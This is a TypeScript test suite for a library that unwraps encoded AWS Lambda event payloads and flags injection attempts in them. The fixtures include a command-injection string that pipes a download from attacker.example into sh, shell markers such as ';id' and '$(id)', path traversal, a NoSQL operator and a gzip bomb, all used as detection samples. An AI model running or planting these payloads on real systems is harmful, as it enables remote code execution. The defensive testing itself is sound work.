import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { runInNewContext } from 'node:vm';
import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { defineFormat } from './format.ts';
import { inspectEvent } from './inspect.ts';
import { readData, readEvent, readField } from './reader.ts';
import { dynamodbItem, encoded, envelopeEncoded, type Field, map } from './trigger.ts';
import type { Shape, Value } from './value.ts';

const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
const shown = ({ path, encodings, text }: Value): string => `${[path, ...encodings].join(' › ')} = ${text}`;
const record = (source: string, members: object) => ({ Records: [{ eventSource: source, ...members }] });

// Each row: one value that must be among those of the event.
const rows: readonly { readonly name: string; readonly event: unknown; readonly expected: string }[] = [
  {
    name: 'Kinesis data: base64, gzip, JSON',
    event: record('aws:kinesis', { kinesis: { data: base64(gzipSync('{"cmd":"a;id"}')) } }),
    expected: '$.Records[0].kinesis.data › base64 › gzip › json:$.cmd = a;id',
  },
  {
    name: 'Kinesis data that is no text of base64 by its looks',
    event: record('aws:kinesis', { kinesis: { data: base64(Buffer.from('\x01;id', 'latin1')) } }),
    expected: '$.Records[0].kinesis.data › base64 = \x01;id',
  },
  {
    name: 'an S3 key is form-encoded',
    event: record('aws:s3', { s3: { object: { key: 'a+b%3Bid.pdf' } } }),
    expected: '$.Records[0].s3.object.key › form = a b;id.pdf',
  },
  {
    name: 'an SNS message is JSON again',
    event: { Records: [{ EventSource: 'aws:sns', Sns: { Message: '{"a":{"b c":"x"}}' } }] },
    expected: "$.Records[0].Sns.Message › json:$.a['b c'] = x",
  },
  {
    name: 'S3 in SQS: the key is still form-encoded',
    event: record('aws:sqs', { body: JSON.stringify(record('aws:s3', { s3: { object: { key: 'x+y' } } })) }),
    expected: '$.Records[0].body › json:$.Records[0].s3.object.key › form = x y',
  },
  {
    name: 'S3 in SNS in SQS',
    event: record('aws:sqs', {
      body: JSON.stringify({ Type: 'Notification', Message: JSON.stringify(record('aws:s3', { s3: { object: { key: 'x%26y' } } })) }),
    }),
    expected: '$.Records[0].body › json:$.Message › json:$.Records[0].s3.object.key › url = x&y',
  },
  {
    name: 'what a wrapped event says is stamped may be forged',
    event: record('aws:sqs', { body: JSON.stringify(record('aws:s3', { eventName: '$(id)' })) }),
    expected: '$.Records[0].body › json:$.Records[0].eventName = $(id)',
  },
  {
    name: 'a body in base64',
    event: { version: '2.0', requestContext: { apiId: 'a', http: { method: 'POST' } }, isBase64Encoded: true, body: base64('q=a%3Bid') },
    expected: '$.body › base64 › form:$.q = a;id',
  },
  {
    name: 'base64url, zlib',
    event: { v: deflateSync('hello world').toString('base64url') },
    expected: '$.v › base64url › deflate = hello world',
  },
  { name: 'percent, twice', event: { v: '%252e%252e%252f' }, expected: '$.v › url › url = ../' },
  {
    name: 'base64 in a form in JSON',
    event: { v: JSON.stringify({ q: `data=${base64('curl evil')}` }) },
    expected: '$.v › json:$.q › form:$.data › base64 = curl evil',
  },
  { name: 'a query in a path', event: { path: '/p?u=http%3A%2F%2Fx' }, expected: '$.path › form:$.u = http://x' },
  { name: 'a name', event: { v: { 'a;id': 1 } }, expected: "$.v['a;id'] = a;id" },
  { name: 'a quote in a name', event: { "it's": 'x' }, expected: "$['it\\'s'] = x" },
  { name: 'a Buffer', event: { b: Buffer.from('a;id') }, expected: '$.b = a;id' },
  { name: 'compressed bytes', event: { b: new Uint8Array(gzipSync('hello')) }, expected: '$.b › gzip = hello' },
  { name: 'a Map', event: { m: new Map([['k', 'v;id']]) }, expected: '$.m[1] = v;id' },
  { name: 'a boxed string', event: { s: Object('boxed') }, expected: '$.s = boxed' },
  { name: '__proto__ is a name like any other', event: JSON.parse('{"__proto__":{"x":"y z"}}'), expected: '$.__proto__.x = y z' },
  { name: 'a name of the prototype', event: { constructor: { prototype: { x: 1 } } }, expected: '$.constructor.prototype = prototype' },
  { name: 'an operator as a name of a form', event: { v: 'user[$ne]=x' }, expected: '$.v › form = user[$ne]' },
  { name: 'a name that comes twice', event: { v: '{"a" :"x;id","b":{"a":1},"a":"y"}' }, expected: '$.v › json:$.a#1 = x;id' },
  {
    name: 'a name that comes twice, deep and escaped',
    event: { v: '[{"c":[0,{"a b":{"x":"1:2;id"},"d":"}","a\\u0020b":2}]}]' },
    expected: "$.v › json:$[0].c[1]['a b']#1.x = 1:2;id",
  },
  { name: 'a Buffer as JSON', event: { v: { type: 'Buffer', data: [...Buffer.from('a;id')] } }, expected: '$.v.data = a;id' },
  {
    name: 'a Buffer as JSON, compressed',
    event: { v: { type: 'Buffer', data: [...gzipSync('a;id')] } },
    expected: '$.v.data › gzip = a;id',
  },
  { name: 'the event is text', event: 'a;id', expected: '$ = a;id' },
];
describe('readEvent', () => {
  for (const { name, event, expected } of rows)
    test(name, () => assert.ok(readEvent(event).values.map(shown).includes(expected), readEvent(event).values.map(shown).join('\n')));
  test('has a table', (context) => context.diagnostic(`note: readEvent: ${rows.length} rows`));
});

const byField: readonly { readonly name: string; readonly field: Field; readonly event: unknown; readonly expected: string }[] = [
  { name: 'gzip in base64', field: encoded('gzip-base64'), event: base64(gzipSync('a;id')), expected: '$ › base64 › gzip = a;id' },
  { name: 'hex', field: encoded('hex'), event: '01613b6964', expected: '$ › hex = \x01a;id' },
  { name: 'a list of bytes as Java writes them', field: encoded('bytes'), event: [97, 59, -61, -87], expected: '$ = a;é' },
  {
    name: 'an event in base64',
    field: envelopeEncoded('base64'),
    event: base64(JSON.stringify(record('aws:s3', { s3: { object: { key: 'x+y' } } }))),
    expected: '$ › base64 › json:$.Records[0].s3.object.key › form = x y',
  },
  {
    name: 'names of the sender’s choice',
    field: map(encoded('base64')),
    event: { 'a;id': base64('\x01x') },
    expected: "$['a;id'] › base64 = \x01x",
  },
  {
    name: 'attributes of DynamoDB',
    field: dynamodbItem,
    event: { a: { M: { b: { L: [{ S: 'x' }, { BS: [base64('\x01y')] }] } } } },
    expected: '$.a.M.b.L[1].BS[0] › base64 = \x01y',
  },
];
describe('readField', () => {
  for (const { name, field, event, expected } of byField)
    test(name, () => {
      const values = readField(event, field).map(shown);
      assert.ok(values.includes(expected), values.join('\n'));
    });
});

const shapes: readonly { readonly name: string; readonly event: unknown; readonly expected: readonly object[] }[] = [
  {
    name: 'many members',
    event: { v: Object.fromEntries(Array.from({ length: 1500 }, (_, i) => [`k${i}`, i])) },
    expected: [{ kind: 'many-keys', path: '$.v', encodings: [], count: 1500 }],
  },
  {
    name: 'a name that comes three times',
    event: { v: '{"a":1,"a":2,"a":3}' },
    expected: [
      { kind: 'duplicate-key', path: '$.v', encodings: ['json:$.a'], key: 'a' },
      { kind: 'duplicate-key', path: '$.v', encodings: ['json:$.a'], key: 'a' },
    ],
  },
  { name: 'colons in texts', event: { v: '{"a":"1:2:3","b":[{"c:d":":"}]}' }, expected: [] },
  {
    name: 'a bound',
    event: { v: base64(gzipSync(Buffer.alloc(30_000_000))) },
    expected: [{ kind: 'limit', limit: 'ratio', path: '$.v', encodings: ['base64'] }],
  },
];
describe('shapes', () => {
  for (const { name, event, expected } of shapes)
    test(name, () => {
      const found = (readEvent(event).shapes ?? []).map((shape) => (shape.kind === 'many-keys' ? withoutSample(shape) : shape));
      assert.deepEqual(found, expected);
    });
});
function withoutSample({ sample, ...shape }: Extract<Shape, { kind: 'many-keys' }>): object {
  assert.equal(sample.length, 1000);
  return shape;
}

test('a format of one’s own', () => {
  const turn = (text: string) => text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));
  const rot13 = defineFormat({
    id: 'rot13',
    title: 'Letters turned by 13',
    reads: 'text',
    canDecode: (text) => /^[a-z ]+$/.test(text),
    decode: (text) => [{ kind: 'text', step: 'rot13', text: turn(text) }],
  });
  const values = readEvent({ v: 'phey rivy' }, { formats: [rot13] }).values.map(shown);
  assert.deepEqual(values, ['$.v = phey rivy', '$.v › rot13 = curl evil']);
  assert.throws(() => defineFormat({ ...rot13, id: 'Rot 13' }), TypeError);
  assert.throws(() => defineFormat({ ...rot13, canDecodes: true } as never), TypeError);
});
test('a format of one’s own that fails is passed over, and that is said', () => {
  const failing = (decode: () => never) =>
    defineFormat({ id: 'mine', title: 'Mine', reads: 'text', canDecode: (text) => text.includes('a'), decode });
  const formats = [
    failing(() => {
      throw new Error('no');
    }),
    failing(() => 7 as never),
    failing(() => [{ kind: 'text', step: 'x', text: Symbol('x') }] as never),
  ];
  for (const format of formats) {
    const { values, incomplete } = readEvent({ v: 'a', w: base64('b;id c') }, { formats: [format] });
    assert.equal(incomplete, 'unreadable');
    assert.ok(values.map(shown).includes('$.w › base64 = b;id c'));
  }
});

const ownFormat = (decode: (text: string) => unknown, id = 'mine') =>
  defineFormat({ id, title: 'Mine', reads: 'text', canDecode: () => true, decode: decode as never });
const attack = '; curl http://attacker.example/x | sh';
const answers: readonly { readonly name: string; readonly answer: unknown; readonly incomplete?: string }[] = [
  { name: 'data', answer: [{ kind: 'data', step: 'x', data: {} }] },
  { name: 'a text', answer: [{ kind: 'text', step: 'x', text: 'y' }] },
  { name: 'a limit', answer: [{ kind: 'limit', limit: 'ratio' }], incomplete: 'ratio' },
  { name: 'nothing', answer: [] },
  { name: 'an unknown kind', answer: [{ kind: 'zzz', step: 'x' }], incomplete: 'unreadable' },
  { name: 'no object', answer: [null], incomplete: 'unreadable' },
  { name: 'no step', answer: [{ kind: 'text', text: 'y' }], incomplete: 'unreadable' },
  { name: 'a text that is none', answer: [{ kind: 'text', step: 'x', text: 7 }], incomplete: 'unreadable' },
  { name: 'data that is none', answer: [{ kind: 'data', step: 'x' }], incomplete: 'unreadable' },
  { name: 'a number of bytes', answer: [{ kind: 'bytes', step: 'x', bytes: 1e9 }], incomplete: 'unreadable' },
  { name: 'an unknown limit', answer: [{ kind: 'limit', limit: 'LALA' }], incomplete: 'unreadable' },
  { name: 'a list without end', answer: new Array(4_000_000_000), incomplete: 'unreadable' },
];
describe('whatever a format of one’s own answers, the text itself is looked at', () => {
  for (const { name, answer, incomplete } of answers)
    test(name, () => {
      const inspection = inspectEvent({ v: attack, w: 'a%3Bid' }, { formats: [ownFormat(() => answer)] });
      assert.deepEqual([inspection.level, inspection.incomplete], ['certain', incomplete]);
    });
  test('and the bytes themselves', () => {
    const mine = defineFormat({
      id: 'mine',
      title: 'Mine',
      reads: 'bytes',
      canDecode: () => true,
      decode: () => [{ kind: 'text', step: 'x', text: 'y' }],
    });
    assert.ok(
      readEvent({ v: Buffer.from('a;id') }, { formats: [mine] })
        .values.map(shown)
        .includes('$.v = a;id'),
    );
    assert.ok(
      readEvent({ v: base64('b;id and more') }, { formats: [mine] })
        .values.map(shown)
        .includes('$.v › base64 = b;id and more'),
    );
  });
});
const fans: readonly { readonly name: string; readonly make: (piece: string, i: number) => unknown }[] = [
  { name: 'texts', make: (text, i) => ({ kind: 'text', step: `y${i}`, text }) },
  { name: 'texts of one step', make: (text) => ({ kind: 'text', step: 'y', text }) },
  { name: 'bytes', make: (text, i) => ({ kind: 'bytes', step: `y${i}`, bytes: Buffer.from(text) }) },
  { name: 'data', make: (text, i) => ({ kind: 'data', step: `y${i}`, data: [text] }) },
];
describe('formats of one’s own that make ever more end at a bound', () => {
  for (const { name, make } of fans)
    test(name, () => {
      let count = 0;
      const fan = ownFormat((text) => [0, 1, 2, 3].map((i) => make(`${text.slice(0, 20)}${i}${count++}`, i)));
      const { values, incomplete } = readEvent({ v: `${attack}${attack}` }, { formats: [fan] });
      assert.equal(incomplete, 'ratio');
      assert.ok(values.length < 10_000, `${values.length}`);
    });
});
test('what is no format or no pattern is an error that says what is missing', () => {
  assert.throws(() => readEvent({}, { formats: [{}] as never }), /the id of a format/);
  assert.throws(() => readEvent({}, { formats: [{ id: 'a', title: 'A', reads: 'text', canDecode() {} }] as never }), /"a" lacks decode/);
  assert.throws(() => readEvent({}, { formats: {} as never }), /"formats" is a list/);
  assert.throws(() => inspectEvent({}, { patterns: ['^a+$'] as never }), /holds regular expressions, not "\^a\+\$"/);
  assert.throws(() => inspectEvent({}, { patterns: /a/ as never }), /"patterns" is a list/);
  assert.throws(() => inspectEvent({}, { limits: { dpeth: 3 } as never }), /"dpeth": the limits are depth, size, ratio, values, time/);
});

const units = Uint8Array.from(Buffer.from(`${attack} `));
const wideUnits = Uint16Array.from(attack, (unit) => unit.charCodeAt(0));
const withMember = (value: object) => Object.assign(value, { x: 'm;id' });
const foreign: readonly { readonly name: string; readonly value: unknown; readonly expected: readonly string[] }[] = [
  { name: 'a DataView', value: new DataView(units.buffer), expected: [`$.v = ${attack} `] },
  { name: 'a DataView of a part', value: new DataView(Uint8Array.from(Buffer.from('xxa;idxx')).buffer, 2, 4), expected: ['$.v = a;id'] },
  { name: 'bytes in numbers of two', value: new Uint16Array(units.buffer), expected: [`$.v = ${attack} `] },
  { name: 'characters in numbers of two', value: wideUnits, expected: [`$.v = ${attack}`] },
  { name: 'characters in numbers of four', value: Uint32Array.from(wideUnits), expected: [`$.v = ${attack}`] },
  {
    name: 'bytes in numbers of eight',
    value: new BigInt64Array(Uint8Array.from(Buffer.from('a;id b;c')).buffer),
    expected: ['$.v = a;id b;c'],
  },
  { name: 'a Map with a member', value: withMember(new Map([['a', 'c;id']])), expected: ['$.v[1] = c;id', '$.v.x = m;id'] },
  { name: 'a Set with a member', value: withMember(new Set(['c;id'])), expected: ['$.v[0] = c;id', '$.v.x = m;id'] },
  {
    name: 'an ArrayBuffer with a member',
    value: withMember(Uint8Array.from(Buffer.from('c;id')).buffer),
    expected: ['$.v = c;id', '$.v.x = m;id'],
  },
  {
    name: 'an error with a member',
    value: withMember(new Error('c;id', { cause: 'd;id' })),
    expected: ['$.v.message = c;id', '$.v.cause = d;id', '$.v.x = m;id'],
  },
  { name: 'a boxed string with a member', value: withMember(Object('c;id')), expected: ['$.v = c;id', '$.v.x = m;id'] },
  { name: 'keys that are objects', value: new Map([[{ x: 'c;id' }, 1]]), expected: ['$.v[0].x = c;id'] },
  {
    name: 'another realm’s',
    value: runInNewContext('Object.assign(new Map([["a", "c;id"]]), { x: "m;id" })'),
    expected: ['$.v[1] = c;id', '$.v.x = m;id'],
  },
];
describe('objects that JSON does not know', () => {
  for (const { name, value, expected } of foreign)
    test(name, () => {
      const { values, incomplete } = readEvent({ v: value });
      const all = values.map(shown);
      for (const one of expected) assert.ok(all.includes(one), all.join('\n'));
      assert.equal(incomplete, undefined);
    });
});

test('one decoding of one text at one place is one value', () => {
  const texts = readEvent({ v: 'a+b%20c' }).values.map(({ path, text }) => `${path} ${text}`);
  assert.equal(new Set(texts).size, texts.length);
});
test('raw values come before decoded ones, so that no padding hides them', () => {
  const { values, incomplete } = readEvent({ a: base64('x'.repeat(3000)), b: 'y;id' }, { limits: { size: 5000 } });
  assert.equal(incomplete, 'size');
  assert.deepEqual(
    values.slice(0, 2).map(({ path }) => path),
    ['$.a', '$.b'],
  );
});
test('readData gives the whole text first', () => {
  const { values } = readData('{"a":"x y"}');
  assert.deepEqual(values.map(shown), ['$ = {"a":"x y"}', '$ › json:$.a = x y']);
  assert.equal(values[0]?.isParsed, true);
  assert.deepEqual(readData(Buffer.from('x y'), { path: '$.body' }).values.map(shown), ['$.body = x y']);
});
test('a misspelt option is an error', () => {
  assert.throws(() => readEvent({}, { limit: {} } as never), TypeError);
  assert.throws(() => readEvent({}, { limits: { dept: 1 } } as never), TypeError);
  assert.throws(() => readEvent({}, { limits: { depth: -1 } }), TypeError);
});

let nested: unknown = 'a;id';
for (let i = 0; i < 200; i++) nested = [nested];
const cyclic: { self?: unknown; a: string } = { a: 'x;id' };
cyclic.self = cyclic;
const wide: unknown[] = ['x'];
for (let i = 0; i < 40; i++) wide[0] = [wide[0], wide[0]];

const bounds: readonly {
  readonly name: string;
  readonly event: unknown;
  readonly limits?: object;
  readonly expected: string | undefined;
}[] = [
  { name: 'nested too deep', event: nested, expected: 'depth' },
  { name: 'JSON nested too deep', event: { v: `${'['.repeat(100_000)}"x"${']'.repeat(100_000)}` }, expected: 'depth' },
  {
    name: 'JSON in JSON in JSON …',
    event: { v: Array.from({ length: 12 }).reduce<string>((text) => JSON.stringify([text]), 'x') },
    limits: { depth: 10 },
    expected: 'depth',
  },
  { name: 'percent signs of percent signs', event: { v: `%${'25'.repeat(500)}` }, expected: 'depth' },
  {
    name: 'a gzip bomb',
    event: record('aws:kinesis', { kinesis: { data: base64(gzipSync(Buffer.alloc(30_000_000))) } }),
    expected: 'ratio',
  },
  {
    name: 'more values than the bound',
    event: Array.from({ length: 300 }, (_, i) => `v ${i}`),
    limits: { values: 200 },
    expected: 'values',
  },
  { name: 'more text than the bound', event: { a: 'x'.repeat(200) }, limits: { size: 100 }, expected: 'size' },
  { name: 'an array of holes', event: { a: new Array(4_000_000_000) }, expected: 'values' },
  { name: 'one object in a million places', event: wide, expected: 'values' },
  { name: 'a cycle is read once', event: cyclic, expected: undefined },
  { name: 'no bound reached', event: { a: 'x' }, expected: undefined },
];
describe('limits', () => {
  for (const { name, event, limits, expected } of bounds)
    test(name, () => assert.equal(readEvent(event, limits ? { limits } : undefined).incomplete, expected));
  test('time by the clock that was given', () => {
    let clock = 0;
    const reading = readEvent(
      Array.from({ length: 10_000 }, () => 'a b'),
      { limits: { time: 5 }, now: () => clock++ },
    );
    assert.equal(reading.incomplete, 'time');
  });
  test('an event of 50 MB ends at the size with its beginning looked at', () => {
    const inspection = inspectEvent({ v: `; curl http://attacker.example/ ${'x'.repeat(50_000_000)}` });
    assert.equal(inspection.incomplete, 'size');
    assert.equal(inspection.level, 'certain');
  });
});

const hostile: readonly { readonly name: string; readonly event: () => unknown }[] = [
  {
    name: 'a getter that throws',
    event: () => ({
      get a() {
        throw new Error('no');
      },
      b: 'x;id',
    }),
  },
  {
    name: 'a proxy that refuses',
    event: () => ({
      p: new Proxy(
        {},
        {
          ownKeys: () => {
            throw new Error('no');
          },
        },
      ),
    }),
  },
  {
    name: 'a revoked proxy',
    event: () => {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      return { proxy };
    },
  },
  {
    name: 'a proxy as the event',
    event: () =>
      new Proxy(
        {},
        {
          get: () => {
            throw new Error('no');
          },
          has: () => {
            throw new Error('no');
          },
          getOwnPropertyDescriptor: () => {
            throw new Error('no');
          },
        },
      ),
  },
  {
    name: 'a revoked proxy as the event',
    event: () => {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      return proxy;
    },
  },
  {
    name: 'a revoked proxy as headers and body',
    event: () => {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      return { headers: proxy, body: proxy, data: proxy, type: 'Buffer' };
    },
  },
  { name: 'functions', event: () => ({ f() {} }) },
  { name: 'an error', event: () => ({ e: new Error('x') }) },
  { name: 'a promise', event: () => Promise.resolve() },
];
describe('what cannot be read is said', () => {
  for (const { name, event } of hostile)
    test(name, () =>
      assert.equal(inspectEvent(event()).incomplete === 'unreadable' || name === 'an error' || name === 'a proxy as the event', true),
    );
});

test('BigInt, symbols, dates, NaN and holes hold no text', () => {
  const { values, incomplete } = readEvent({
    a: 10n,
    b: Symbol('x'),
    c: new Date(0),
    d: Number.NaN,
    e: [undefined, null],
    [Symbol('k')]: 'x',
  });
  assert.deepEqual([values.length, incomplete], [0, undefined]);
});
test('patched prototypes of the event’s own realm change nothing', () => {
  const event = runInNewContext(`
    const event = { Records: [{ eventSource: 'aws:sqs', body: '; curl http://attacker.example/' }], bytes: new Uint8Array([36, 40, 105, 100, 41]), map: new Map([['k', 'v w']]) };
    for (const name of ['forEach', 'map', 'push', 'keys', 'entries']) Array.prototype[name] = () => { throw new Error('patched'); };
    Array.prototype[Symbol.iterator] = () => { throw new Error('patched'); };
    Object.keys = () => []; Object.prototype.hasOwnProperty = () => false;
    Map.prototype.forEach = Map.prototype.entries = () => {};
    Object.defineProperty(Object.getPrototypeOf(Uint8Array.prototype), 'length', { get() { return 0; } });
    event;
  `);
  const reading = readEvent(event);
  assert.equal(reading.trigger, 'aws:sqs');
  assert.ok(reading.values.map(shown).includes('$.bytes = $(id)'));
  assert.ok(reading.values.map(shown).includes('$.map[1] = v w'));
  assert.equal(inspectEvent(event).level, 'certain');
});

test('any event: no throw, no change, paths and spans that exist', () => {
  fc.assert(
    fc.property(
      fc.object({
        maxDepth: 4,
        withBigInt: true,
        withDate: true,
        withMap: true,
        withSet: true,
        withTypedArray: true,
        withSparseArray: true,
        withNullPrototype: true,
        withObjectString: true,
      }),
      (event) => {
        const frozen = deepFreeze(event);
        const inspection = inspectEvent(frozen);
        for (const { span } of inspection.detections) assert.ok(span[0] < span[1]);
      },
    ),
    { numRuns: 300 },
  );
});
test('a payload is found under any stack of encodings', () => {
  const layers: Readonly<Record<string, (text: string) => string>> = {
    base64: (text) => base64(text),
    base64url: (text) => Buffer.from(text).toString('base64url'),
    gzip: (text) => base64(gzipSync(text)),
    zlib: (text) => base64(deflateSync(text)),
    url: (text) => encodeURIComponent(text),
    json: (text) => JSON.stringify({ a: [text] }),
    form: (text) => new URLSearchParams({ q: text }).toString(),
  };
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...Object.keys(layers)), { maxLength: 5 }), (stack) => {
      const payload = 'a; curl http://attacker.example/';
      const text = stack.reduce((inner, layer) => (layers[layer] as (text: string) => string)(inner), payload);
      assert.equal(inspectEvent({ v: text }).level, 'certain', stack.join(', '));
    }),
    { numRuns: 200 },
  );
});

function deepFreeze<T>(value: T): T {
  if (typeof value === 'object' && value !== null && !ArrayBuffer.isView(value) && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const key of Object.keys(value)) deepFreeze((value as Record<string, unknown>)[key]);
  }
  return value;
}
